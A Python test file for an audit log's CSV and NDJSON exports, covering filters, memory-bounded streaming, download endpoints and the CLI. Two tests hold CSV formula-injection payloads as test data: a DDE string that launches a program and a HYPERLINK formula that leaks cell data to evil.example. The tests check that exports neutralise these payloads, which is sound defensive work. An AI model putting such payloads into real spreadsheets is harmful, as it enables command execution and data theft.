"""Exports of filtered views: CSV and NDJSON content, streaming in bounded memory, page and CLI."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from auditlog import record
from cryptography.fernet import Fernet
from flask import Flask
from flask.testing import FlaskClient, FlaskCliRunner
from sqlalchemy import Engine, String, Text, cast, insert, literal, select, true, update
from sqlalchemy.orm import Session

from analytics.actions import ACCOUNT_ACTIONS, record_action
from analytics.audit import AuditEntry, AuditStatus, AuditStore, create_audit_engine
from analytics.catalog import CATALOG
from analytics.durations import as_utc
from analytics.export import Export, ExportFormat, entry_record
from analytics.messages import CONTEXT_KEY, build_message
from analytics.personal_data import PersonalDataCipher
from analytics.queries import (
    EXPORT_COLUMNS,
    TIME_COLUMNS,
    AuditFilter,
    newest_first,
    parse_property_match,
    summary,
)

NOW = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)

BOM = "\ufeff"
"""The byte-order mark a CSV export starts with, as the catalog's CSV does (for spreadsheets)."""


def _seed_three(store: AuditStore) -> dict[str, str]:
    return {
        "delivered": record(
            store,
            "ClusterProvisioningSuccess",
            scope={"user_id": 1, "project_id": 12, "cluster_id": 4},
            properties={"cluster_type": "eks", "infra_id": 9},
            status="delivered",
            recorded_at=NOW - timedelta(minutes=3),
        ),
        "failed": record(
            store,
            "UserCreate",
            scope={"user_id": 2},
            properties={"email": "ada@example.com"},
            status="failed",
            source="tester",
            actor="ada@example.com",
            recorded_at=NOW - timedelta(minutes=2),
            destination="staging:0123456789ab",
        ),
        "other_project": record(
            store,
            "ProjectCreate",
            scope={"user_id": 1, "project_id": 13},
            status="failed",
            recorded_at=NOW - timedelta(minutes=1),
        ),
    }


def test_csv_export_has_a_header_and_one_row_per_matching_entry(store: AuditStore) -> None:
    ids = _seed_three(store)
    text = "".join(Export(store.engine, AuditFilter(statuses=("failed",)), ExportFormat.CSV))
    rows = list(csv.DictReader(io.StringIO(text.removeprefix(BOM))))
    # The byte-order mark first, as the catalog's CSV: spreadsheets then read UTF-8 as UTF-8.
    assert text.startswith("\ufeff" + ",".join(EXPORT_COLUMNS) + "\r\n")
    assert [row["message_id"] for row in rows] == [ids["other_project"], ids["failed"]]
    failed = rows[1]
    assert (failed["status"], failed["source"], failed["actor"], failed["user_id"]) == (
        "failed",
        "tester",
        "ada@example.com",
        "2",
    )
    assert failed["project_id"] == "" and failed["http_status"] == ""
    assert (failed["destination"], rows[0]["destination"]) == ("staging:0123456789ab", "")
    assert datetime.fromisoformat(failed["recorded_at"]) == NOW - timedelta(minutes=2)
    payload = json.loads(failed["payload"])
    assert payload["messageId"] == ids["failed"]
    assert payload["properties"]["email"].startswith("masked:")


def test_csv_cells_people_name_cannot_run_as_spreadsheet_formulas(store: AuditStore) -> None:
    """An account named `=cmd|…@example.com` sent a test event: its email went into the actor cell as
    is, which a spreadsheet runs. NDJSON, read by programs, keeps every value as it is."""
    actor = "=cmd|'/ccalc'!a0@example.com"
    message_id = record(
        store,
        "ProjectCreate",
        scope={"user_id": 1, "project_id": 77},
        source="tester",
        actor=actor,
        destination="+staging:0123456789ab",
        recorded_at=NOW,
    )
    store.record_outcome([message_id], AuditStatus.FAILED, error="@SUM(1+1)")
    # A message built by hand (not by a spec class) can name any spec.
    with store.engine.begin() as connection:
        where = AuditEntry.message_id == message_id
        payload = connection.scalar(select(AuditEntry.payload).where(where))
        assert payload is not None
        payload["context"]["eventCatalog"]["spec"] = "-2+3"
        connection.execute(update(AuditEntry).where(where).values(payload=payload))
    text = "".join(Export(store.engine, AuditFilter(), ExportFormat.CSV))
    (row,) = csv.DictReader(io.StringIO(text))
    assert (row["actor"], row["destination"], row["error"], row["spec"]) == (
        "'=cmd|'/ccalc'!a0@example.com",
        "'+staging:0123456789ab",
        "'@SUM(1+1)",
        "'-2+3",
    )
    (line,) = [
        json.loads(line)
        for line in "".join(Export(store.engine, AuditFilter(), ExportFormat.NDJSON)).splitlines()
    ]
    assert (line["actor"], line["error"], line["spec"]) == (actor, "@SUM(1+1)", "-2+3")


SENT_FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1+1)", "\tx", "\rx"]
"""`userId`s an application (or anyone holding its write key) may send: the library keeps them as sent."""


def test_every_csv_text_cell_a_sender_controls_cannot_run_as_a_formula(engine: Engine) -> None:
    """A raw message's `userId`, `messageId` and catalog version reached the CSV as sent: the guard
    covered only the event, destination, actor and error cells. NDJSON keeps them as they are."""
    key = Fernet.generate_key().decode()
    store = AuditStore(engine, encryption_key=key)
    spec = CATALOG.event("ProjectCreate").example_spec()
    sent = []
    for user_id in SENT_FORMULAS:
        message = build_message(spec)
        message["userId"] = user_id
        sent.append(message)
    odd = build_message(spec)
    odd["messageId"], odd["context"][CONTEXT_KEY]["version"] = "=1+2", "-cafe"
    sent.append(odd)
    for message in sent:
        store.record(message, status=AuditStatus.PENDING, source="application")
    for cipher in (None, PersonalDataCipher(key)):
        text = "".join(Export(engine, AuditFilter(), ExportFormat.CSV, cipher=cipher))
        rows = list(csv.DictReader(io.StringIO(text.removeprefix(BOM))))
        by_id = {row["message_id"]: row for row in rows}
        assert [by_id[message["messageId"]]["user_id"] for message in sent[:-1]] == [
            f"'{user_id}" for user_id in SENT_FORMULAS
        ]
        (row,) = [row for row in rows if row["message_id"] == "'=1+2"]
        assert (row["catalog_version"], row["user_id"]) == ("'-cafe", odd["userId"])
        assert json.loads(row["payload"])["messageId"] == "=1+2"
    lines = [
        json.loads(line) for line in "".join(Export(engine, AuditFilter(), ExportFormat.NDJSON)).splitlines()
    ]
    assert {line["user_id"] for line in lines} >= set(SENT_FORMULAS)
    assert "=1+2" in {line["message_id"] for line in lines}


def test_ndjson_export_is_one_object_per_line_newest_first(store: AuditStore) -> None:
    ids = _seed_three(store)
    text = "".join(Export(store.engine, AuditFilter(), ExportFormat.NDJSON))
    lines = [json.loads(line) for line in text.splitlines()]
    assert text.endswith("\n")
    assert [line["message_id"] for line in lines] == [ids["other_project"], ids["failed"], ids["delivered"]]
    first = lines[2]
    assert list(first) == list(EXPORT_COLUMNS)
    assert (first["project_id"], first["cluster_id"], first["status"]) == (12, 4, "delivered")
    assert first["payload"]["properties"] == {
        "proj_id": 12,
        "cluster_id": 4,
        "cluster_type": "eks",
        "infra_id": 9,
    }
    assert first["recorded_at"] == (NOW - timedelta(minutes=3)).isoformat()


def test_exports_name_the_spec_that_built_each_entry_in_their_last_column(engine: Engine) -> None:
    """Identify entries have no event string: an analyst told a Register call from a Login only by
    reading `payload.context.eventCatalog.spec`. The spec comes after the payload, so the columns a
    script reads by position stay where they were; on both databases, masked (PostgreSQL's COPY) and
    unmasked."""
    key = Fernet.generate_key().decode()
    store = AuditStore(engine, encryption_key=key)
    traits = {"email": "ada@example.com", "github": False}
    register = record(store, "Register", scope={"user_id": 7}, properties=traits, recorded_at=NOW)
    login = record(store, "Login", scope={"user_id": 7}, properties=traits, recorded_at=NOW)
    action = record_action(store, "Scope Preset Saved", actor="ada@example.com", properties={"name": "p"})
    header = (
        "message_id,recorded_at,timestamp,type,event,status,status_changed_at,source,destination,actor,"
        "user_id,project_id,cluster_id,catalog_version,http_status,error,payload,spec"
    )
    for cipher in (None, PersonalDataCipher(key)):
        text = "".join(Export(engine, AuditFilter(), ExportFormat.CSV, cipher=cipher))
        assert text.startswith(BOM + header + "\r\n")
        rows = list(csv.DictReader(io.StringIO(text.removeprefix(BOM))))
        assert {row["message_id"]: (row["event"], row["spec"]) for row in rows} == {
            register: ("", "RegisterIdentify"),
            login: ("", "LoginIdentify"),
            action: ("Scope Preset Saved", ""),
        }
        ndjson = "".join(Export(engine, AuditFilter(), ExportFormat.NDJSON, cipher=cipher))
        lines = [json.loads(line) for line in ndjson.splitlines()]
        assert [list(line) for line in lines] == [header.split(",")] * 3
        assert {line["message_id"]: (line["event"], line["spec"]) for line in lines} == {
            register: (None, "RegisterIdentify"),
            login: (None, "LoginIdentify"),
            action: ("Scope Preset Saved", None),
        }


@pytest.mark.parametrize("spec", [5, True, None, {"a": 1}, ["RegisterIdentify"]])
def test_a_spec_named_by_something_other_than_a_string_is_no_spec_in_exports_and_the_api(
    engine: Engine, spec: Any
) -> None:
    """A message built by hand can carry any JSON as its marker's spec: the export said `1` for `true`
    on SQLite and `"true"` on PostgreSQL, and the audit API `true`. A spec is a class name, so
    anything else is no spec, on both databases, masked (PostgreSQL's COPY) and unmasked."""
    key = Fernet.generate_key().decode()
    store = AuditStore(engine, encryption_key=key)
    message = build_message(CATALOG.identifier("Register").example_spec())
    store.record(message, status=AuditStatus.PENDING, source="application")
    with engine.begin() as connection:
        where = AuditEntry.message_id == message["messageId"]
        payload = connection.scalar(select(AuditEntry.payload).where(where))
        assert payload is not None
        payload["context"][CONTEXT_KEY]["spec"] = spec
        connection.execute(update(AuditEntry).where(where).values(payload=payload))
    for cipher in (None, PersonalDataCipher(key)):
        text = "".join(Export(engine, AuditFilter(), ExportFormat.CSV, cipher=cipher))
        (row,) = csv.DictReader(io.StringIO(text.removeprefix(BOM)))
        (line,) = [
            json.loads(line)
            for line in "".join(
                Export(engine, AuditFilter(), ExportFormat.NDJSON, cipher=cipher)
            ).splitlines()
        ]
        assert (row["spec"], line["spec"]) == ("", None)
        assert json.loads(row["payload"])["context"][CONTEXT_KEY]["spec"] == spec  # kept as stored
    entry = store.entry(message["messageId"])
    assert entry is not None
    assert entry_record(entry)["spec"] is None


def test_ndjson_export_applies_every_kind_of_filter(store: AuditStore) -> None:
    ids = _seed_three(store)

    def exported(**filters: Any) -> list[str]:
        text = "".join(Export(store.engine, AuditFilter(**filters), ExportFormat.NDJSON))
        return [json.loads(line)["message_id"] for line in text.split("\n") if line]

    recent = {"since": NOW - timedelta(seconds=150), "statuses": ("failed", "delivered")}
    assert exported(**recent) == [ids["other_project"], ids["failed"]]
    assert exported(prop=parse_property_match("cluster_type = eks")) == [ids["delivered"]]
    assert exported(actor="ada@example.com", type="track") == [ids["failed"]]
    assert exported(actor="O'Brien \\ %s") == []


def test_hidden_actions_are_left_out_of_exports_counts_and_pages(store: AuditStore) -> None:
    """What a role may not read (account actions) is left out on both databases, COPY included."""
    ids = _seed_three(store)
    refused = record_action(store, "Login Failed", actor="anonymous@203.0.113.9", properties={"email": "x@z"})
    preset = record_action(store, "Scope Preset Saved", actor="ada@example.com", properties={"name": "p"})
    hidden = AuditFilter(hidden_actions=ACCOUNT_ACTIONS)

    def exported(filters: AuditFilter) -> list[str]:
        text = "".join(Export(store.engine, filters, ExportFormat.NDJSON))
        return [json.loads(line)["message_id"] for line in text.split("\n") if line]

    assert refused in exported(AuditFilter())
    assert sorted(exported(hidden)) == sorted([preset, *ids.values()])
    assert exported(replace(hidden, type="action")) == [preset]
    with Session(store.engine) as session:
        assert session.execute(summary(replace(hidden, type="action"))).one()[0] == 1
        assert session.execute(summary(AuditFilter(type="action"))).one()[0] == 2
        page = session.scalars(newest_first(hidden, limit=10)).all()
        assert refused not in {entry.message_id for entry in page} and len(page) == 4


def test_an_empty_view_exports_only_the_header(store: AuditStore) -> None:
    _seed_three(store)
    nothing = AuditFilter(user_id="nobody")
    assert (
        "".join(Export(store.engine, nothing, ExportFormat.CSV))
        == "\ufeff" + ",".join(EXPORT_COLUMNS) + "\r\n"
    )
    assert "".join(Export(store.engine, nothing, ExportFormat.NDJSON)) == ""


_AWKWARD = {
    "actor": 'quote " backslash \\ newline \n tab \t cr \r bell \x07 unit \x1f del \x7f',
    "user_id": "ünïcödé 中文 😀 \u2028 </script>",
    "error": "",
    "http_status": 503,
    "project_id": None,
}


def _expected_cells(engine: Engine) -> list[list[Any]]:
    """Every entry, newest first, as Python writes it: times by `isoformat()` in UTC, payloads as
    stored, the spec as the payload's catalog marker names it."""
    *columns, spec = EXPORT_COLUMNS
    selected = [
        cast(AuditEntry.payload, Text) if name == "payload" else getattr(AuditEntry, name) for name in columns
    ]
    query = select(*selected).order_by(AuditEntry.recorded_at.desc(), AuditEntry.id.desc())
    with engine.connect() as connection:
        rows = connection.execute(query).all()
    return [
        [
            *(
                as_utc(value).isoformat() if name in TIME_COLUMNS else value
                for name, value in zip(columns, row, strict=True)
            ),
            json.loads(row.payload)["context"]["eventCatalog"][spec],
        ]
        for row in rows
    ]


def test_exported_text_is_what_json_dumps_and_the_csv_writer_write(store: AuditStore) -> None:
    ids = _seed_three(store)
    moves = {
        ids["delivered"]: {"recorded_at": NOW.replace(microsecond=0), **_AWKWARD},
        ids["failed"]: {"recorded_at": NOW + timedelta(microseconds=120)},
        ids["other_project"]: {"recorded_at": NOW + timedelta(seconds=1, microseconds=999_999)},
    }
    with store.engine.begin() as connection:
        for message_id, values in moves.items():
            connection.execute(update(AuditEntry).where(AuditEntry.message_id == message_id).values(**values))
    expected = _expected_cells(store.engine)
    ndjson = "".join(Export(store.engine, AuditFilter(), ExportFormat.NDJSON))
    at = EXPORT_COLUMNS.index("payload")
    lines = [
        json.dumps(dict(zip(EXPORT_COLUMNS[:at], cells, strict=False)), ensure_ascii=False)[:-1]
        + f', "payload": {cells[at]}, "spec": {json.dumps(cells[-1])}}}\n'
        for cells in expected
    ]
    assert ndjson == "".join(lines)
    assert json.loads(ndjson.split("\n")[2])["actor"] == _AWKWARD["actor"]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows([EXPORT_COLUMNS, *expected])
    assert "".join(Export(store.engine, AuditFilter(), ExportFormat.CSV)) == BOM + buffer.getvalue()


def test_a_loaded_entry_s_record_is_its_ndjson_line(store: AuditStore) -> None:
    """The audit API gives entries as `entry_record` builds them: the same values as the export's lines."""
    ids = _seed_three(store)
    with store.engine.begin() as connection:
        connection.execute(
            update(AuditEntry)
            .where(AuditEntry.message_id == ids["delivered"])
            .values(recorded_at=NOW + timedelta(microseconds=120), **_AWKWARD)
        )
    ndjson = "".join(Export(store.engine, AuditFilter(), ExportFormat.NDJSON))
    with Session(store.engine) as session:
        entries = session.scalars(select(AuditEntry).order_by(AuditEntry.recorded_at.desc())).all()
        records = [entry_record(entry) for entry in entries]
    assert records == [json.loads(line) for line in ndjson.split("\n") if line]
    assert [list(record) for record in records] == [list(EXPORT_COLUMNS)] * 3


def test_an_unmasking_export_changes_only_the_sealed_payloads(engine: Engine) -> None:
    key = Fernet.generate_key().decode()
    ids = _seed_three(AuditStore(engine, encryption_key=key))
    cipher = PersonalDataCipher(key)
    mask = _stored_email(engine, ids["failed"])
    for export_format in ExportFormat:
        masked = "".join(Export(engine, AuditFilter(), export_format))
        unmasked = "".join(Export(engine, AuditFilter(), export_format, cipher=cipher))
        assert mask.startswith("masked:") and masked.count(mask) == 1
        assert unmasked == masked.replace(mask, "ada@example.com")


def _stored_email(engine: Engine, message_id: str) -> str:
    with engine.connect() as connection:
        payload = connection.scalar(select(AuditEntry.payload).where(AuditEntry.message_id == message_id))
    assert payload is not None
    return str(payload["properties"]["email"])


def _clone(engine: Engine, message_id: str, count: int) -> None:
    """Copy one recorded entry `count` times inside the database (recording 100k would take minutes).

    The copies share the original's time, so the export's order rests on the id tiebreak.
    """
    table = AuditEntry.__table__
    numbers = select(literal(1).label("i")).cte("numbers", recursive=True)
    numbers = numbers.union_all(select(numbers.c.i + 1).where(numbers.c.i < count))
    original = table.alias("original")
    overrides = {
        "message_id": literal("bulk-") + cast(numbers.c.i, String),
        "seq": original.c.seq + numbers.c.i,
    }
    names = [column.name for column in table.c if column.name != "id"]
    copies = select(*(overrides.get(name, original.c[name]) for name in names)).where(
        original.c.message_id == message_id
    )
    with engine.begin() as connection:
        connection.execute(
            insert(table).from_select(names, copies.select_from(numbers.join(original, true())))
        )


# Runs in a fresh interpreter, so that its peak resident memory is the export's alone: the RSS sees
# what a driver buffers in C (a client-side cursor holding every row), which tracemalloc would not.
_EXPORT_BOTH_FORMATS = """
import json, sys
from analytics.audit import create_audit_engine
from analytics.export import Export, ExportFormat, entry_record
from analytics.messages import CONTEXT_KEY, build_message
from analytics.queries import AuditFilter
engine = create_audit_engine(sys.argv[1])
produced = {}
for export_format in ExportFormat:
    export = Export(engine, AuditFilter(project_id=int(sys.argv[2])), export_format)
    produced[str(export_format)] = [sum(len(chunk) for chunk in export), export.rows]
# VmHWM, not getrusage's ru_maxrss: Linux carries ru_maxrss over from the parent through fork and exec,
# so a child of a larger pytest process would report the parent's size whatever the export used.
with open("/proc/self/status") as status:
    peak_kib = next(int(line.split()[1]) for line in status if line.startswith("VmHWM:"))
print(json.dumps({"produced": produced, "peak": peak_kib * 1024}))
"""


def _export_in_child(database_url: str, project_id: int) -> tuple[dict[str, list[int]], int]:
    """Export a project's entries in both formats in a child process: what it wrote, its peak RSS."""
    done = subprocess.run(
        [sys.executable, "-c", _EXPORT_BOTH_FORMATS, database_url, str(project_id)],
        capture_output=True,
        check=True,
        cwd=Path(__file__).parent.parent,
    )
    report = json.loads(done.stdout)
    return report["produced"], report["peak"]


def test_100k_rows_export_in_bounded_memory(store: AuditStore, database_url: str) -> None:
    seed = record(
        store,
        "ClusterProvisioningSuccess",
        scope={"user_id": 1, "project_id": 12, "cluster_id": 4},
        properties={"cluster_type": "eks", "infra_id": 9},
        status="delivered",
    )
    _clone(store.engine, seed, 100_000 - 1)
    produced, peak = _export_in_child(database_url, 12)
    nothing, baseline = _export_in_child(database_url, 99)
    assert nothing == {"csv": [len(BOM + ",".join(EXPORT_COLUMNS)) + 2, 0], "ndjson": [0, 0]}
    for size, rows in produced.values():
        assert rows == 100_000
        assert size > 60_000_000
        # Holding the rows would take at least the output's size; streaming takes a few batches.
        assert peak - baseline < size / 4, (
            f"{peak - baseline:,} bytes more than an empty export, for {size:,}"
        )


@pytest.fixture
def seeded_app(app: Flask, sqlite_url: str) -> Iterator[dict[str, str]]:
    """The dashboard's database with three entries."""
    engine = create_audit_engine(sqlite_url)
    try:
        yield _seed_three(AuditStore(engine))
    finally:
        engine.dispose()


def test_export_refuses_a_nul_character_in_its_text_lines(client: FlaskClient) -> None:
    """It answered the dashboard's HTML 400 page, where a bad filter is a line of text."""
    response = client.get("/audit/export.csv?event=New%00User")
    assert response.status_code == 400 and response.mimetype == "text/plain"
    assert (
        response.get_data(as_text=True) == "event: holds a NUL character (\\u0000), which cannot be stored.\n"
    )


def test_export_page_streams_a_download_of_the_filtered_view(
    client: FlaskClient, seeded_app: dict[str, str]
) -> None:
    response = client.get("/audit/export.csv?status=failed&project=13&live=1&before=whatever")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    # The file's name tells several exports apart: filters by their words, ids by name alone.
    assert re.fullmatch(
        r'attachment; filename="audit-status-failed_project-\d{8}T\d{6}Z\.csv"',
        response.headers["Content-Disposition"],
    )
    assert response.get_data().startswith(b"\xef\xbb\xbfmessage_id,")
    rows = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert [row["message_id"] for row in rows] == [seeded_app["other_project"]]
    ndjson = client.get("/audit/export.ndjson?source=tester")
    assert 'filename="audit-source-tester-' in ndjson.headers["Content-Disposition"]
    # A time window by its times (as UTC), so that two incident windows' exports differ by name.
    window = client.get(
        "/audit/export.csv?since=2026-12-06T08:00%2B01:00&until=2026-12-06T08:00:30&status=failed"
    )
    assert re.fullmatch(
        r'attachment; filename="audit-2026-12-06T0700Z--2026-12-06T080030Z_status-failed-\d{8}T\d{6}Z\.csv"',
        window.headers["Content-Disposition"],
    )
    window.close()
    since = client.get("/audit/export.ndjson?since=2026-12-06T07:00&source=tester")
    assert 'filename="audit-since-2026-12-06T0700Z_source-tester-' in since.headers["Content-Disposition"]
    since.close()
    personal = client.get("/audit/export.csv?event=New+User&prop=email+%3D+ada%40example.com")
    assert 'filename="audit-event-New-User_prop-' in personal.headers["Content-Disposition"]
    assert "ada" not in personal.headers["Content-Disposition"]
    personal.close()
    assert ndjson.headers["Content-Type"] == "application/x-ndjson"
    assert [json.loads(line)["message_id"] for line in ndjson.get_data(as_text=True).splitlines()] == [
        seeded_app["failed"]
    ]


def test_export_page_refuses_unusable_filters_in_plain_words(client: FlaskClient) -> None:
    response = client.get("/audit/export.csv?project=twelve&range=3w")
    assert response.status_code == 400
    assert response.mimetype == "text/plain"
    assert response.get_data(as_text=True).splitlines() == [
        "range: unknown range '3w': one of 15m, 1h, 24h, 7d",
        "project: 'twelve' is not a whole number",
    ]
    assert client.get("/audit/export.xlsx").status_code == 404


def test_export_refuses_a_parameter_it_does_not_know(client: FlaskClient, seeded_app: dict[str, str]) -> None:
    """A mistyped `stauts=failed` downloaded the whole log, where the API refuses it."""
    response = client.get("/audit/export.ndjson?stauts=failed&limit=5&project=twelve")
    assert response.status_code == 400
    assert response.mimetype == "text/plain"
    lines = response.get_data(as_text=True).splitlines()
    assert lines[0] == "project: 'twelve' is not a whole number"
    assert [line.partition(": ")[0] for line in lines[1:]] == ["stauts", "limit"]
    assert lines[1].startswith("stauts: unknown parameter: the audit page's filters are ")
    # The page's own address, `export.csv` put in, still downloads its view: a later page of a search
    # of over 1,000 entries carries the count it was reached with (`total`).
    page = client.get("/audit/export.ndjson?status=failed&project=13&live=1&before=x&after=y&total=1000")
    assert page.status_code == 200
    assert [json.loads(line)["message_id"] for line in page.get_data(as_text=True).splitlines()] == [
        seeded_app["other_project"]
    ]


def test_cli_export_writes_the_filtered_view_to_stdout(
    runner: FlaskCliRunner, seeded_app: dict[str, str]
) -> None:
    result = runner.invoke(args=["audit", "export", "--status", "failed,delivered", "--format", "ndjson"])
    assert result.exit_code == 0, result.output
    ids = [json.loads(line)["message_id"] for line in result.stdout.splitlines()]
    assert ids == [seeded_app["other_project"], seeded_app["failed"], seeded_app["delivered"]]
    narrowed = runner.invoke(
        args=["audit", "export", "--event", "New User", "--since", "2000-01-01", "--user-id", "2"]
    )
    assert narrowed.exit_code == 0, narrowed.output
    assert narrowed.stdout_bytes.startswith(b"\xef\xbb\xbfmessage_id,")
    assert [row["message_id"] for row in csv.DictReader(io.StringIO(narrowed.stdout[1:]))] == [
        seeded_app["failed"]
    ]
    sent_to_staging = runner.invoke(args=["audit", "export", "--destination", "staging"])
    assert [row["message_id"] for row in csv.DictReader(io.StringIO(sent_to_staging.stdout[1:]))] == [
        seeded_app["failed"]
    ]
    # staging is not configured in this app: the export runs, and says so.
    assert sent_to_staging.exit_code == 0
    assert sent_to_staging.stderr == "warning: no destination named 'staging' is configured now\n"
    assert runner.invoke(args=["audit", "export", "--destination", "default"]).stderr == ""


def test_cli_export_to_a_file_reports_the_count(
    runner: FlaskCliRunner, seeded_app: dict[str, str], tmp_path: Path
) -> None:
    target = tmp_path / "failed.csv"
    result = runner.invoke(args=["audit", "export", "--status", "failed", "-o", str(target)])
    assert result.exit_code == 0, result.output
    assert result.stderr.strip() == f"exported 2 entries to {target}"
    assert target.read_bytes().startswith(b"\xef\xbb\xbfmessage_id,")
    assert len(list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"))))) == 2
    assert not list(tmp_path.glob("*.partial"))
    unwritable = tmp_path / "missing" / "failed.csv"
    refused = runner.invoke(args=["audit", "export", "--status", "failed", "-o", str(unwritable)])
    assert (refused.exit_code, refused.stderr) == (
        2,
        f"error: cannot write {unwritable}: No such file or directory\n",
    )


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--project", "x"], "error: --project: 'x' is not a whole number"),
        (["--since", "last week"], "error: --since: 'last week' is not a time"),
        (["--user-id", "1", "--prop", "email"], "error: --prop: write the property search as key = value"),
        (["--destination", "Staging"], "error: --destination: 'Staging' is not a destination"),
        # The search ignores an empty field; an option given empty exported the whole log.
        (["--since", ""], "error: --since: empty: give a value, or leave the option out"),
        (["--event", " "], "error: --event: empty: give a value, or leave the option out"),
        # The page's wording (once "tick one of them") named no option a command line could give.
        (
            ["--outcome", "refused", "--status", "delivered,pending"],
            "error: --outcome: narrows failed and dropped entries only: 'delivered' and 'pending' in "
            "--status would be left out; drop them from --status, or drop --outcome\n",
        ),
    ],
)
def test_cli_export_refuses_bad_filters_in_one_line(
    runner: FlaskCliRunner, args: list[str], message: str
) -> None:
    result = runner.invoke(args=["audit", "export", *args])
    assert result.exit_code == 2
    assert len(result.stderr.splitlines()) == 1
    assert result.stderr.startswith(message)
    assert result.stdout == ""


def test_cli_export_finds_personal_data_through_the_configured_mask(
    runner: FlaskCliRunner, seeded_app: dict[str, str]
) -> None:
    result = runner.invoke(
        args=["audit", "export", "--prop", "email = ada@example.com", "--format", "ndjson"]
    )
    assert result.exit_code == 0, result.output
    assert [json.loads(line)["message_id"] for line in result.stdout.splitlines()] == [seeded_app["failed"]]


def test_a_reader_that_stops_early_ends_the_export_quietly(sqlite_store: AuditStore, sqlite_url: str) -> None:
    """`audit export | head` said "error: cannot write None: Broken pipe" and exit 2 (bad input); a
    stopped reader is no error: the status of a program a closed pipe stopped, and no message."""
    seed = _seed_three(sqlite_store)["delivered"]
    _clone(sqlite_store.engine, seed, 2_000)  # far more than a pipe holds
    export = subprocess.Popen(
        [Path(sys.executable).parent / "event-catalog", "audit", "export", "--format", "ndjson"],
        env={**os.environ, "DATABASE_URL": sqlite_url},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert export.stdout is not None and export.stderr is not None
    assert export.stdout.read(100).startswith(b'{"message_id": ')
    export.stdout.close()  # what `head` does once it has its lines
    assert export.wait(timeout=60) == 141
    with export.stderr:
        assert export.stderr.read() == b""
